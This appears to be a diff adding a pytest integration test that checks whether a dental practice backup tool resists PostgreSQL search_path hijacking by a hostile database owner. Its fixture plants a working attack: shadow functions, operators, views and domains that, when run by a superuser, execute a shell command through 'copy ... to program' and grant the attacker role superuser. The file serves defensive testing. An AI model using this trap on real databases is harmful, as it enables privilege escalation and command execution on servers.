@@ -1,0 +1,173 @@
+"""Whoever may create things in the practice's database shadows every name in our SQL; none of it ever runs."""
+
+import ast
+import re
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+import dental_pms_backup
+from dental_pms_backup import postgres
+from dental_pms_backup.postgres import OnHost
+from tests import faults
+from tests.integration.faults import OK, events, listening
+from tests.integration.support import Ran, Site, sql
+
+PACKAGE = Path(dental_pms_backup.__file__).parent
+FILTERS = ".sed", ".pl", ".perl", ""
+WORD = re.compile(r"[a-z_][a-z0-9_]*")
+OPERATOR = re.compile(r"[-+*/<>=~!@#%^&|?]+")
+# Tells the trap's file which statement has sprung it, and does what it is there for, where it has the rights for it.
+TRAP = """\
+create schema evil;
+create function evil.sprung() returns boolean language plpgsql as $$ begin
+ if (select rolsuper from pg_catalog.pg_roles where rolname operator(pg_catalog.=) current_user) then
+  copy (select pg_catalog.current_query()) to program 'cat >>{trap}';
+  begin alter role evil_app superuser; exception when read_only_sql_transaction then null; end;
+ end if;
+ return true; end $$;
+"""
+# Functions with each set of arguments that the server has for the name; "any" takes every type, and so gets some.
+FUNCTIONS = """\
+select format('create function evil.%I(%s) returns %s language plpgsql as $f$ begin perform evil.sprung(); return{} end $f$',
+  proname, arguments, result)
+ from (select proname, pg_get_function_identity_arguments(oid) arguments, pg_get_function_result(oid) result
+  from pg_proc where pronamespace = 'pg_catalog'::regnamespace and proname = any ({}) and prokind in ('f', 'a', 'w')
+  and not 'internal'::regtype = any (proargtypes) and not '"any"'::regtype = any (proargtypes)
+  and prorettype not in ('internal'::regtype, 'trigger'::regtype, 'event_trigger'::regtype)) known
+ where result like 'SETOF %' = {} \\gexec
+"""
+OF_ANY = """\
+select format('create function evil.%I(%s) returns %s language plpgsql as $f$ begin perform evil.sprung(); return null; end $f$',
+  proname, arguments, pg_get_function_result(p.oid))
+ from (select * from pg_proc where pronamespace = 'pg_catalog'::regnamespace and proname = any ({names})
+  and '"any"'::regtype = any (proargtypes)) p,
+ unnest(array['text', 'name', 'text, text', 'text, name', 'text, name, name', 'text, text, text', 'text, name, text']) arguments
+ where prokind = 'f' \\gexec
+"""
+OPERATORS = """\
+select format('create function evil.%I(%s) returns %s language plpgsql as $f$ begin perform evil.sprung(); return null; end $f$',
+  'operator_' || oid, concat_ws(', ', nullif(oprleft, 0)::regtype, oprright::regtype), oprresult::regtype)
+ from pg_operator where oprnamespace = 'pg_catalog'::regnamespace and oprname = any ({names}) and oprright <> 0 and oprcode <> 0
+ and not (oprleft = any ('{{"any",internal}}'::regtype[]) or oprright = any ('{{"any",internal}}'::regtype[])) \\gexec
+select format('create operator evil.%s (%s rightarg = %s, function = evil.%I)', oprname,
+  case when oprleft <> 0 then format('leftarg = %s,', oprleft::regtype) end, oprright::regtype, 'operator_' || o.oid)
+ from pg_operator o join pg_proc p on p.proname = 'operator_' || o.oid \\gexec
+"""
+RELATIONS = """\
+select format('create view evil.%I as select * from pg_catalog.%I where evil.sprung()', relname, relname)
+ from pg_class where relnamespace = 'pg_catalog'::regnamespace and relkind in ('r', 'v') and relname = any ({names}) \\gexec
+"""
+TYPES = """\
+select format('create domain evil.%I as pg_catalog.%I check (evil.sprung())', typname, typname)
+ from pg_type where typnamespace = 'pg_catalog'::regnamespace and typtype = 'b' and typname = any ({names}) \\gexec
+"""
+COUNTED = """\
+select (select count(distinct proname) from pg_proc where pronamespace = 'evil'::regnamespace and proname !~ '^operator_'),
+ (select count(distinct oprname) from pg_operator where oprnamespace = 'evil'::regnamespace),
+ (select count(*) from pg_class where relnamespace = 'evil'::regnamespace and relkind = 'v'),
+ (select count(*) from pg_type where typnamespace = 'evil'::regnamespace and typtype = 'd')
+"""
+IS_SUPERUSER = "select rolsuper from pg_roles where rolname = 'evil_app'"
+
+
+def our_texts() -> str:
+    """Return all that our modules have as text and all filters: what SQL there is stands in it."""
+    texts = []
+    for path in PACKAGE.rglob("*"):
+        if path.suffix == ".py":
+            tree = ast.parse(path.read_text())
+            texts += [
+                node.value for node in ast.walk(tree) if isinstance(node, ast.Constant) and type(node.value) is str
+            ]
+        elif path.is_file() and path.suffix in FILTERS:
+            texts.append(path.read_text())
+    return "\n".join(texts).lower()
+
+
+def array(found: set[str]) -> str:
+    return "array[" + ", ".join(postgres.literal(name) for name in sorted(found)) + "]::name[]"
+
+
+def plant(server: OnHost, trap: Path) -> None:
+    """Make a shadow of everything that our SQL may name, as the owner of the database can, and have them found first."""
+    text = our_texts()
+    words, operators = array(set(WORD.findall(text))), array(set(OPERATOR.findall(text)))
+    script = [
+        "set role evil_app;\n",
+        TRAP.format(trap=trap),
+        *(FUNCTIONS.format(end, words, is_set) for end, is_set in ((" null;", "false"), (";", "true"))),
+        OF_ANY.format(names=words),
+        OPERATORS.format(names=operators),
+        RELATIONS.format(names=words),
+        TYPES.format(names=words),
+        f'alter database "{server.database}" set search_path = evil, pg_catalog, public;\n',
+    ]
+    file = trap.with_name("plant.sql")
+    file.write_text("".join(script))
+    sql(server, f"\\i {file}")
+
+
+@pytest.fixture
+def shadowed(own_database: Site) -> Iterator[tuple[Site, Path]]:
+    """A site whose database belongs to somebody evil, and the file that the server writes when a trap is sprung."""
+    site = own_database
+    trap = site.place / "sprung"
+    trap.touch()
+    trap.chmod(0o666)
+    elsewhere = postgres.in_database(site.server, "postgres")
+    sql(elsewhere, "create role evil_app login", f'alter database "{site.server.database}" owner to evil_app')
+    try:
+        yield site, trap
+    finally:
+        sql(elsewhere, f'drop database "{site.server.database}" with (force)', "drop role if exists evil_app")
+
+
+def did(site: Site, *words: str) -> Ran:
+    """Type a command, which has to succeed, and tell the table of it."""
+    with listening(site) as journal:
+        done = site.run(*words, wrapper=journal.wrapper)
+        told = journal.close()
+    assert done.returncode == 0, done.stderr
+    faults.saw(status=done.returncode, store=faults.A_NEW_SET, events=events(told))
+    return done
+
+
+def test_the_shadows_are_sprung_by_whoever_does_not_pin_names(shadowed: tuple[Site, Path]) -> None:
+    site, trap = shadowed
+    plant(site.server, trap)
+    functions, operators, relations, types = map(
+        int, sql(site.server, f"set search_path = pg_catalog; {COUNTED}").splitlines()[-1].split("|")
+    )
+    assert functions > 60
+    assert operators > 15
+    assert relations > 15
+    assert types > 10
+    sql(site.server, "select format('%I.%I', 'a'::name, 'b'::name)")
+    assert "select format(" in trap.read_text()
+    assert sql(postgres.in_database(site.server, "postgres"), IS_SUPERUSER) == "t"
+
+
+@pytest.mark.fault(
+    "Somebody evil", "each function, operator, table and type that our SQL names is there once more, and found first"
+)
+def test_nothing_of_the_database_runs_under_a_name_of_ours(shadowed: tuple[Site, Path]) -> None:
+    site, trap = shadowed
+    sql(site.server, "create table attachments (id int, storage_key text not null, byte_size bigint)")
+    sql(site.server, "insert into attachments values (1, '2026/0001.jpg', 3700)")
+    plant(site.server, trap)
+    (site.attachments / "attachments").symlink_to(".")
+    assert did(site, "run").stdout.endswith(f"{OK}\n")
+    for words in (
+        "run --dry-run",
+        "status",
+        "drill",
+        "restore db latest",
+        "restore db latest --in-place --yes",
+        "restore all latest --in-place --yes",
+    ):
+        did(site, *words.split())
+        assert trap.read_text() == "", words
+    assert sql(postgres.in_database(site.server, "postgres"), IS_SUPERUSER) == "f"
+    faults.recovered()
